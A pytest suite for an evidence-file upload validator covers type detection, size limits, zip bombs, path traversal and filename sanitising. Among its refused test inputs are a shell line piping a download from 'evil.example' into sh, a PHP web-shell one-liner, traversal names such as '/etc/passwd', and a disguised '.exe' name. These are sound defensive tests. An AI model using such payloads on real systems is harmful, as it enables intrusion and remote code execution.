"""Upload checks for evidence files. Every sample is built here, byte by byte; no database."""

from __future__ import annotations

import base64
import hashlib
import io
import os
import struct
import zipfile
import zlib

import magic
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from evidence.validation import (
    ALLOWED_TYPES,
    DOCX,
    MB,
    ODS,
    ODT,
    XLSX,
    CheckedFile,
    UploadRejected,
    check_upload,
    sanitize_filename,
)
from soc2app.errors import DomainError

# --- sample builders ------------------------------------------------------------------------


def _pdf() -> bytes:
    """A minimal but well-formed PDF: one empty page, with a correct xref table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _png() -> bytes:
    """A 1x1 RGB PNG with valid chunk CRCs."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00"
    b",\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")  # 1x1 lossless
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 48
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 56
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _zip(members: list[tuple[str, bytes | str]], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return buffer.getvalue()


def _xlsx(content_types_first: bool = True) -> bytes:
    parts: list[tuple[str, bytes | str]] = [
        ("docProps/app.xml", "<Properties/>"),
        ("xl/workbook.xml", "<workbook><sheets/></workbook>"),
        ("xl/worksheets/sheet1.xml", "<worksheet><sheetData/></worksheet>"),
        ("_rels/.rels", "<Relationships/>"),
    ]
    ct = ("[Content_Types].xml", CONTENT_TYPES)
    return _zip([ct, *parts] if content_types_first else [*parts, ct])


def _docx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", "<Relationships/>"),
            ("word/document.xml", "<document><body/></document>"),
        ]
    )


def _odf(mimetype: str) -> bytes:
    """ODF puts an uncompressed ``mimetype`` member first."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), mimetype)
        zf.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", "<manifest/>", zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _patch_u32(data: bytes, position: int, value: int) -> bytes:
    return data[:position] + struct.pack("<I", value) + data[position + 4 :]


def _patch_u16_or(data: bytes, position: int, bits: int) -> bytes:
    (value,) = struct.unpack_from("<H", data, position)
    return data[:position] + struct.pack("<H", value | bits) + data[position + 2 :]


def _upload(data: bytes, name: str = "evidence.bin", **kwargs: int) -> CheckedFile:
    return check_upload(io.BytesIO(data), name=name, **kwargs)


def _rejected(data: bytes, name: str, code: str) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        _upload(data, name)
    assert caught.value.code == code, caught.value.message
    return caught.value


# --- accepted types ---------------------------------------------------------------------------

ACCEPTED = [
    ("pdf", _pdf(), "policy.pdf", "application/pdf"),
    ("png", _png(), "screenshot.png", "image/png"),
    ("jpeg", JPEG, "photo.jpg", "image/jpeg"),
    ("gif", GIF, "badge.gif", "image/gif"),
    ("webp", WEBP, "screen.webp", "image/webp"),
    ("text", b"MFA enforced for all admins.\n", "notes.txt", "text/plain"),
    ("utf8-bom-text", "\ufeffR\u00e9sum\u00e9 \u2713\n".encode(), "notes.txt", "text/plain"),
    ("csv", b"user,mfa\nalice,yes\nbob,no\n", "users.csv", "text/csv"),
    ("json", b'{"controls": [1, 2, 3]}', "export.json", "application/json"),
    ("xlsx", _xlsx(), "access-review.xlsx", XLSX),
    ("xlsx-reordered", _xlsx(content_types_first=False), "access-review.xlsx", XLSX),
    ("docx", _docx(), "policy.docx", DOCX),
    ("ods", _odf(ODS), "inventory.ods", ODS),
    ("odt", _odf(ODT), "policy.odt", ODT),
    (
        "zip",
        _zip([("logs/a.log", b"ok\n"), ("logs/b.log", b"ok\n")]),
        "logs.zip",
        "application/zip",
    ),
]


@pytest.mark.parametrize(
    ("data", "name", "content_type"), [a[1:] for a in ACCEPTED], ids=[a[0] for a in ACCEPTED]
)
def test_allowed_types_are_accepted_with_size_and_sha256(data, name, content_type):
    checked = _upload(data, name)

    assert checked == CheckedFile(
        safe_name=name,
        content_type=content_type,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    assert content_type in ALLOWED_TYPES


def test_this_libmagic_misses_xlsx_when_content_types_is_not_first():
    # Why the module looks inside archives itself instead of trusting libmagic.
    assert magic.from_buffer(_xlsx(content_types_first=True), mime=True) == XLSX
    assert magic.from_buffer(_xlsx(content_types_first=False), mime=True) == "application/zip"


def test_legacy_excel_is_accepted_when_libmagic_says_so(monkeypatch):
    # Building a valid CFB workbook by hand is out of proportion; fake libmagic's verdict.
    monkeypatch.setattr(magic, "from_buffer", lambda head, mime: "application/vnd.ms-excel")

    assert _upload(OLE, "old.xls").content_type == "application/vnd.ms-excel"


def test_other_ole_documents_are_refused():
    error = _rejected(OLE, "old.xls", "type_not_allowed")
    assert "application/x-ole-storage" in error.message


def test_django_uploaded_file_works_and_is_rewound():
    upload = SimpleUploadedFile("review.xlsx", _xlsx(content_types_first=False))

    checked = check_upload(upload, name=upload.name)

    assert checked.content_type == XLSX
    assert upload.tell() == 0
    assert upload.read(2) == b"PK"


def test_reads_in_chunks_not_all_at_once():
    data = _pdf() + b"%" + b"x" * (3 * MB)
    reads: list[int] = []

    class Recording(io.BytesIO):
        def read(self, size: int | None = -1, /) -> bytes:
            reads.append(-1 if size is None else size)
            return super().read(size)

    check_upload(Recording(data), name="big.pdf")

    assert reads
    assert all(0 < size <= 64 * 1024 for size in reads)


@pytest.mark.parametrize(
    "data",
    [_pdf(), b"<html></html>", b"", b"x" * 200],
    ids=["accepted", "refused", "empty", "too-large"],
)
def test_file_position_is_zero_afterwards(data):
    fileobj = io.BytesIO(data)
    fileobj.seek(len(data) // 2)

    try:
        check_upload(fileobj, name="a.pdf", max_bytes=100)
    except UploadRejected:
        pass

    assert fileobj.tell() == 0


def test_rejection_belongs_to_the_domain_error_family():
    error = _rejected(b"", "a.pdf", "empty")

    assert isinstance(error, DomainError)
    assert error.status == 400
    assert error.message == (
        "The file is empty: check that you chose the right file and upload it again."
    )


# --- size -----------------------------------------------------------------------------------


def test_max_bytes_argument_names_both_sizes():
    with pytest.raises(UploadRejected) as caught:
        _upload(b"a" * (3 * MB // 2), "big.txt", max_bytes=MB)

    assert caught.value.code == "too_large"
    assert caught.value.message == "This file is 1.5 MB; the limit is 1 MB."


def test_limit_comes_from_settings(settings):
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 1000

    assert _upload(b"a" * 1000, "ok.txt").size == 1000
    error = _rejected(b"a" * 2000, "big.txt", "too_large")
    assert error.message == "This file is 2 KB; the limit is 1000 bytes."


def test_default_limit_is_25_mb(settings):
    if hasattr(settings, "EVIDENCE_MAX_UPLOAD_BYTES"):
        del settings.EVIDENCE_MAX_UPLOAD_BYTES

    class Huge(io.BytesIO):
        """Claims 26 MB at its end without holding it: refused before anything is read."""

        def seek(self, offset: int, whence: int = 0, /) -> int:
            return super().seek(offset, 0) if whence == 0 else 26 * MB

        def tell(self) -> int:
            return 26 * MB

    with pytest.raises(UploadRejected) as caught:
        check_upload(Huge(b""), name="huge.pdf")
    assert caught.value.message == "This file is 26 MB; the limit is 25 MB."


def test_limit_holds_when_the_size_cannot_be_known_in_advance():
    class ForwardOnly(io.BytesIO):
        def seek(self, offset: int, whence: int = 0, /) -> int:
            if whence != 0:
                raise io.UnsupportedOperation("seek")
            return super().seek(offset)

    with pytest.raises(UploadRejected) as caught:
        check_upload(ForwardOnly(b"a" * 5000), name="big.txt", max_bytes=1000)

    assert caught.value.code == "too_large"
    assert "larger than the 1000 bytes limit" in caught.value.message


def test_empty_file():
    assert _rejected(b"", "empty.pdf", "empty").message == (
        "The file is empty: check that you chose the right file and upload it again."
    )


# --- refused content, whatever the name says ---------------------------------------------------

REFUSED = [
    (
        "html-as-pdf",
        b"<!DOCTYPE html><html><body>Hi</body></html>",
        "report.pdf",
        "html_not_allowed",
    ),
    ("html-no-doctype", b"\n  <HTML><body>x</body></HTML>", "report.txt", "html_not_allowed"),
    ("script-in-text", b"Notes\n<script>alert(1)</script>\n", "notes.txt", "html_not_allowed"),
    (
        "svg-as-png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        "logo.png",
        "svg_not_allowed",
    ),
    (
        "svg-with-prolog",
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
        "a.png",
        "svg_not_allowed",
    ),
    ("xml", b'<?xml version="1.0"?><audit><item/></audit>', "audit.txt", "xml_not_allowed"),
    ("shell-as-txt", b"#!/bin/sh\ncurl evil.example | sh\n", "notes.txt", "executable_not_allowed"),
    (
        "python-shebang",
        b"#!/usr/bin/env python3\nprint(1)\n",
        "notes.txt",
        "executable_not_allowed",
    ),
    ("php", b"<?php system($_GET['c']); ?>\n", "notes.txt", "executable_not_allowed"),
    ("elf-as-txt", ELF, "notes.txt", "executable_not_allowed"),
    ("pe-as-pdf", PE, "report.pdf", "executable_not_allowed"),
    ("java-class", JAVA_CLASS, "report.pdf", "executable_not_allowed"),
    (
        "jar",
        _zip([("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("A.class", JAVA_CLASS)]),
        "a.zip",
        "executable_not_allowed",
    ),
    (
        "pptx",
        _zip([("[Content_Types].xml", CONTENT_TYPES), ("ppt/presentation.xml", "<p/>")]),
        "deck.pptx",
        "type_not_allowed",
    ),
    (
        "odp",
        _odf("application/vnd.oasis.opendocument.presentation"),
        "deck.odp",
        "type_not_allowed",
    ),
    ("rtf", b"{\\rtf1\\ansi hello}", "notes.rtf", "type_not_allowed"),
    ("binary-zeros", b"\x00" * 100, "data.pdf", "type_not_allowed"),
    ("text-with-nul", b"abc\x00def\n", "notes.txt", "type_not_allowed"),
    ("empty-zip", b"PK\x05\x06" + b"\x00" * 18, "empty.zip", "empty"),
]


@pytest.mark.parametrize(
    ("data", "name", "code"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED]
)
def test_refused_content(data, name, code):
    error = _rejected(data, name, code)

    assert error.message.endswith(".")


def test_html_message_says_what_to_do():
    error = _rejected(b"<html><body>x</body></html>", "a.pdf", "html_not_allowed")

    assert (
        error.message
        == "HTML files are not accepted as evidence: upload a PDF or a screenshot instead."
    )


def test_csv_starting_with_mz_is_text_not_an_executable():
    assert _upload(b"MZ,Warehouse\n1,2\n", "sites.csv").content_type == "text/csv"


def test_source_code_guesses_are_stored_as_plain_text():
    data = b"#include <stdio.h>\nint main(void) { return 0; }\n"
    assert magic.from_buffer(data, mime=True) == "text/x-c"

    assert _upload(data, "snippet.txt").content_type == "text/plain"


# --- text: encoding, JSON, CSV -----------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        "Caf\u00e9 r\u00e9sum\u00e9\n".encode("latin-1"),
        "hello\n".encode("utf-16"),
        b"caf\xc3",  # a multi-byte character cut off at the very end
        b"a,b\n" * 5000 + b"\x00\n",  # text to libmagic (first 16 KB), NUL further on
    ],
    ids=["latin-1", "utf-16", "truncated-utf8", "nul-after-head"],
)
def test_text_that_is_not_utf8_is_refused(data):
    error = _rejected(data, "notes.csv", "not_utf8")

    assert "UTF-8" in error.message


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b'{"a": 1}', "export.txt"),
        (b"[1, 2, 3]\n", "export.csv"),
        ('\ufeff{"k": "v"}'.encode(), "export.json"),
        (b'  \n{"nested": {"list": [true, null]}}', "export"),
    ],
    ids=["named-txt", "named-csv", "bom", "leading-space"],
)
def test_json_detected_from_content(data, name):
    assert _upload(data, name).content_type == "application/json"


@pytest.mark.parametrize(
    "data",
    [b"{ meeting notes }\n", b"[draft] access review\n", b"[" * 100_000 + b"]" * 100_000],
    ids=["braces", "brackets", "too-deep"],
)
def test_text_that_only_looks_like_json_is_plain_text(data):
    assert _upload(data, "notes.json").content_type == "text/plain"


@pytest.mark.parametrize(
    ("name", "content_type"),
    [
        ("users.csv", "text/csv"),
        ("USERS.CSV", "text/csv"),
        ("users.txt", "text/plain"),
        ("users", "text/plain"),
    ],
)
def test_csv_decided_by_name_for_text(name, content_type):
    assert _upload(b"a,b\n1,2\n", name).content_type == content_type


def test_excel_csv_utf8_with_bom_is_csv():
    data = "\ufeffname,team\nZo\u00eb,Ops\n".encode()

    assert _upload(data, "team.csv").content_type == "text/csv"


# --- archives -----------------------------------------------------------------------------------


def test_zip_bomb_by_ratio_with_default_limits():
    # 50 MB of zeros, written in chunks: the archive is ~50 KB and never inflated.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("zeros.bin", "w") as fh:
        for _ in range(50):
            fh.write(bytes(MB))
    assert len(buffer.getvalue()) < 200 * 1024

    error = _rejected(buffer.getvalue(), "export.zip", "zip_bomb")
    assert "zeros.bin" in error.message
    assert "100-fold" in error.message


def test_zip_total_size_limit(settings):
    settings.EVIDENCE_ZIP_MAX_UNCOMPRESSED_BYTES = MB
    data = _zip([(f"part{i}.bin", os.urandom(400 * 1024)) for i in range(3)])

    error = _rejected(data, "export.zip", "zip_bomb")
    assert (
        error.message
        == "The archive expands to more than 1 MB; split it or upload the files one by one."
    )


def test_byte_budget_is_shared_with_nested_archives(settings):
    # Every declared size passes on its own level; only the running total catches it.
    inner = _zip([("big.bin", os.urandom(600 * 1024))], zipfile.ZIP_STORED)
    outer = _zip([("inner.zip", inner), ("other.bin", os.urandom(300 * 1024))], zipfile.ZIP_STORED)
    settings.EVIDENCE_ZIP_MAX_UNCOMPRESSED_BYTES = 2 * MB
    assert _upload(outer, "export.zip").content_type == "application/zip"

    settings.EVIDENCE_ZIP_MAX_UNCOMPRESSED_BYTES = MB
    _rejected(outer, "export.zip", "zip_bomb")


def test_zip_whose_headers_understate_the_size_is_refused(settings):
    settings.EVIDENCE_ZIP_MAX_UNCOMPRESSED_BYTES = 100_000
    data = _zip([("big.bin", b"A" * 300_000)], zipfile.ZIP_STORED)
    # Claim 1,000 bytes in both the local header (offset 22) and the central directory (24).
    central = data.rfind(b"PK\x01\x02")
    data = _patch_u32(_patch_u32(data, 22, 1000), central + 24, 1000)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.infolist()[0].file_size == 1000

    _rejected(data, "export.zip", "zip_corrupt")


def test_too_many_members(settings):
    settings.EVIDENCE_ZIP_MAX_MEMBERS = 5
    assert _upload(_zip([(f"{i}.txt", b"x") for i in range(5)]), "a.zip").size > 0

    error = _rejected(_zip([(f"{i}.txt", b"x") for i in range(6)]), "a.zip", "zip_bomb")
    assert (
        error.message
        == "The archive holds more than 5 files; split it or upload the files one by one."
    )


@pytest.mark.parametrize(
    "member",
    [
        "../evil.txt",
        "logs/../../evil.txt",
        "/etc/passwd",
        "C:/Windows/evil.txt",
        "a\\..\\..\\b.txt",
    ],
)
def test_traversal_member_names(member):
    data = _zip([("ok.txt", b"fine"), (member, b"x")])

    error = _rejected(data, "export.zip", "zip_traversal")
    assert member in error.message


def test_dots_inside_member_names_are_fine():
    data = _zip([("v1..2/notes..txt", b"x")])

    assert _upload(data, "export.zip").content_type == "application/zip"


@pytest.mark.parametrize(
    "mangle",
    [
        lambda data: b"PK\x03\x04" + b"\xff" * 200,
        lambda data: data[:-30],
        lambda data: data[:40] + bytes(b ^ 0xFF for b in data[40:60]) + data[60:],
    ],
    ids=["garbage", "truncated", "damaged-member"],
)
def test_corrupt_zip(mangle):
    data = _zip([("notes.txt", b"some evidence " * 200)])

    error = _rejected(mangle(data), "export.zip", "zip_corrupt")
    assert "damaged" in error.message


def test_encrypted_member_is_refused():
    data = _zip([("secret.txt", b"x" * 100)])
    central = data.rfind(b"PK\x01\x02")
    data = _patch_u16_or(_patch_u16_or(data, 6, 0x1), central + 8, 0x1)

    error = _rejected(data, "export.zip", "zip_encrypted")
    assert "password-protected" in error.message


def test_one_level_of_nesting_is_fine_two_are_not():
    level1 = _zip([("a.txt", b"x")])
    level2 = _zip([("inner.zip", level1)])
    level3 = _zip([("middle.dat", level2)])  # renamed: found by content, not by name

    assert _upload(level2, "export.zip").content_type == "application/zip"
    _rejected(level3, "export.zip", "zip_nested")


def test_workbook_with_embedded_workbook_is_accepted():
    data = _zip(
        [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/embeddings/Sheet.xlsx", _xlsx()),
        ]
    )

    assert _upload(data, "book.xlsx").content_type == XLSX


# --- file names ---------------------------------------------------------------------------------

NAMES = [
    ("../../etc/passwd", "passwd"),
    ("C:\\Windows\\evil.exe", "evil.exe"),
    ("report\u202efdp.exe", "reportfdp.exe"),
    ("bad\x00name\n.pdf", "badname.pdf"),
    ("line one\r\nline two.txt", "line one line two.txt"),
    ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
    (".htaccess", "htaccess"),
    ("..", "file"),
    ("", "file"),
    ("   ", "file"),
    ("CON.txt", "_CON.txt"),
    ("nul", "_nul"),
    ("com1.tar.gz", "_com1.tar.gz"),
    ("\U0001f600\U0001f525\U0001f600", "file"),
    ("\U0001f525\U0001f525.pdf", "file.pdf"),
    ("\uff46\uff55\uff4c\uff4c\uff0f\uff57\uff49\uff44\uff54\uff48.pdf", "width.pdf"),
    ("re\u0301sume\u0301 2024.pdf", "r\u00e9sum\u00e9 2024.pdf"),
    ("Quarterly review (final) v2.xlsx", "Quarterly review (final) v2.xlsx"),
    ("a<b>c|d?.pdf", "a_b_c_d_.pdf"),
    ("evil.exe. . .", "evil.exe"),
    ("tabs\t\tand   spaces.csv", "tabs and spaces.csv"),
]


@pytest.mark.parametrize(("name", "expected"), NAMES)
def test_sanitize_filename(name, expected):
    assert sanitize_filename(name) == expected


@pytest.mark.parametrize("name", [n for n, _ in NAMES])
def test_sanitize_filename_is_stable(name):
    once = sanitize_filename(name)

    assert sanitize_filename(once) == once


def test_long_ascii_name_keeps_extension():
    result = sanitize_filename("a" * 1000 + ".pdf")

    assert result == "a" * 146 + ".pdf"


@pytest.mark.parametrize("max_length", [150, 255])
def test_long_multibyte_name_fits_255_bytes(max_length):
    result = sanitize_filename("\u6f22" * 1000 + ".xlsx", max_length=max_length)  # 3 bytes each

    stem = result.removesuffix(".xlsx")
    assert result.endswith(".xlsx")
    assert len(result) <= max_length
    assert len(result.encode()) <= 255
    assert stem == "\u6f22" * len(stem)
    assert len(stem) == min(max_length - 5, 250 // 3)


def test_long_extension_is_not_treated_as_one():
    result = sanitize_filename("report." + "x" * 300)

    assert len(result) == 150
    assert result.startswith("report.xxx")


def test_checked_file_carries_the_sanitized_name():
    assert _upload(_pdf(), "../../Q3\u202e report.pdf").safe_name == "Q3 report.pdf"
